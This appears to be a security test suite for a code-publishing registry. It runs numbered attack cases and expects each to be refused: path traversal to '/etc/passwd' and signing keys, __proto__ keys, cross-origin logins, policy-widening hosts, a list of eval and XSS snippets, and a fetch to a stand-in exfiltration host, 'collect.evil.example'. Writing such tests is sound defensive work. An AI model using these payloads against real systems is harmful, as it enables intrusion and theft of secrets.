import { attacksOf, holds } from './attack.ts';
import { CHANNEL, hostileRelease, named, publish } from './release.ts';
import type { Made } from './release.ts';
import { whileRegistryRuns } from './own-programs.ts';
import type { Answer, Site } from './site.ts';
import { isOk } from './site.ts';

const NODE = 'module.exports = {};';

async function refusesManifest(
  site: Site,
  change: (made: Made) => Record<string, unknown>,
  why: string,
): Promise<void> {
  const made = hostileRelease(NODE);
  const answer = await publish(site, { ...made, manifest: change(made) });
  holds(!isOk(answer), `${why} was published`);
}

async function wrongFiles(site: Site): Promise<void> {
  const file = { integrity: `sha384-${'A'.repeat(64)}`, bytes: 1 };
  const withFile =
    (path: string) =>
    ({ manifest }: Made) => ({ ...manifest, files: { ...(manifest['files'] as object), [path]: file } });
  await refusesManifest(site, withFile('../escape.js'), 'a path above the release');
  await refusesManifest(site, withFile('/etc/passwd'), 'an absolute path');
  await refusesManifest(site, withFile('web/missing.js'), 'a file that was never sent');
  const made = hostileRelease(NODE);
  const text = JSON.stringify(made.manifest).replace('"files":{', `"files":{"__proto__":${JSON.stringify(file)},`);
  const answer = await publish(site, { ...made, manifest: { toJSON: () => JSON.parse(text) } });
  holds(answer.status !== 500, 'a key of prototypes was answered 500');
  const raw = await site.registry(`/v1/releases/${made.name}/${made.version}`, {
    method: 'PUT',
    headers: { 'content-type': 'application/octet-stream', authorization: `Bearer ${site.registryToken('publisher')}` },
    body: text,
  });
  holds(!isOk(raw), 'a file with the name __proto__ was published');
}

async function overwritten(site: Site): Promise<void> {
  const made = hostileRelease(NODE);
  holds(isOk(await publish(site, made)), 'the first version could not be published');
  const answer = await publish(site, { ...made, manifest: { ...made.manifest, hosts: ['https://evil.example'] } });
  holds(answer.status === 409, `another content of the same version was answered ${answer.status}`);
}

function change(site: Site, token: string, headers: Record<string, string> = {}): Promise<Answer> {
  return site.registry(`/v1/channels/${CHANNEL}`, {
    method: 'PUT',
    headers: {
      'content-type': 'application/json',
      'if-match': '"1"',
      'baize-reason': 'an attack',
      authorization: `Bearer ${token}`,
      ...headers,
    },
    body: JSON.stringify({ operation: 'rollback', remote: 'games-dice' }),
  });
}

async function releasedByPublisher(site: Site): Promise<void> {
  for (const token of [site.registryToken('publisher'), '', 'operator', 'null'])
    holds(
      [401, 403].includes((await change(site, token)).status),
      'a channel was changed without the token of an operator',
    );
}

/** On registries of its own: the copy's token is a developer's, who may publish anything. */
async function foreignName(): Promise<void> {
  await whileRegistryRuns(null, async (site) => {
    const { status } = await publish(site, hostileRelease(NODE));
    holds(status === 403, `the first token of a new machine published: ${status}`);
  });
  await whileRegistryRuns('attackers the-token attack-*,games-*\n', async (site) => {
    if (!isOk(await publish(site, hostileRelease(NODE)))) throw new Error('a team could not publish its own remote');
    for (const name of ['promotions', 'attac', 'profile', 'attack']) {
      const { status } = await publish(site, named(hostileRelease(NODE), name));
      holds(status === 403, `a token published ${name} of another team: ${status}`);
    }
  });
}

async function consoleForms(site: Site): Promise<void> {
  const login = (origin: string | null, token = site.registryToken('operator')): Promise<Answer> =>
    site.registry('/login', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', ...(origin !== null && { origin }) },
      body: new URLSearchParams({ token }).toString(),
    });
  for (const origin of ['https://evil.example', 'null', site.at.site])
    holds((await login(origin)).status === 403, `${origin} logged in`);
  const { headers } = await login(site.at.registry);
  const cookie = headers
    .getSetCookie()
    .map((one) => one.split(';')[0])
    .join('; ');
  for (const origin of ['https://evil.example', site.at.registry]) {
    const answer = await site.registry('/logout', {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie, origin },
      body: '',
    });
    holds(answer.status === 403, `a form without its token from ${origin} was answered ${answer.status}`);
  }
}

const FORBIDDEN = [
  'eval("1")',
  '(0, eval)("1")',
  'new Function("return 1")()',
  'Function("return 1")()',
  'globalThis["eval"]("1")',
  'setTimeout("steal()", 1)',
  'document.body.setAttribute("onclick", "steal()")',
  'document.body.innerHTML = "<img src=x onerror=steal()>"',
  'location.href = "javascript:steal()"',
];

async function forbiddenCode(site: Site): Promise<void> {
  for (const script of FORBIDDEN) {
    const answer = await publish(site, hostileRelease(NODE, script));
    holds(answer.status === 422 && answer.body.code === 'code-forbidden', `${script} was answered ${answer.status}`);
  }
}

async function hiddenHost(site: Site): Promise<void> {
  const answer = await publish(site, hostileRelease(NODE, 'fetch("https://collect.evil.example/x")'));
  holds(
    isOk(answer) && answer.body.hosts?.undeclared?.includes('collect.evil.example'),
    'a host that the code names is not told',
  );
}

async function oddHosts(site: Site): Promise<void> {
  for (const host of [
    'http://evil.example',
    'https://*',
    'https://*.example',
    "https://a.example 'unsafe-inline'",
    'https://a.example; script-src *',
    'data:',
  ])
    await refusesManifest(site, ({ manifest }) => ({ ...manifest, contract: '^1.4.0', hosts: [host] }), host);
}

async function oddNames(site: Site): Promise<void> {
  const made = hostileRelease(NODE);
  for (const name of ['..%2fescape', '__proto__', 'a'.repeat(80), 'A', 'a.b', '-']) {
    const answer = await publish(site, { ...made, name, manifest: { ...made.manifest, name } });
    holds(answer.status >= 400 && answer.status < 500, `the name ${name} was answered ${answer.status}`);
  }
}

async function privateFiles(site: Site): Promise<void> {
  for (const place of [
    '/secrets/signing-key.pem',
    '/..%2fsecrets/signing-key.pem',
    '/v1/files/../../secrets/operator-token',
    '/v1/releases/games-dice/..%2f..%2fsecrets/files/operator-token',
  ]) {
    const { body, status } = await site.registry(place);
    holds(!/PRIVATE KEY/.test(String(body)) && status !== 500, `${place} was answered ${status}`);
  }
}

/** Who may publish code, and which. */
export const registry = attacksOf('registry', [
  [61, 'publish wrong hashes, paths above, absolute paths and __proto__', wrongFiles],
  [62, 'overwrite a published version', overwritten],
  [63, 'change a channel without the token of an operator', releasedByPublisher],
  [64, 'publish under the name of another team', foreignName],
  [65, 'log in and act in the console from foreign pages', consoleForms],
  [131, 'publish code that makes code of text', forbiddenCode],
  [132, 'name a host in the code and not in the manifest', hiddenHost],
  [133, 'widen the policy of pages by a host that is none', oddHosts],
  [134, 'publish under names that are none', oddNames],
  [135, 'read the keys of the registry', privateFiles],
]);
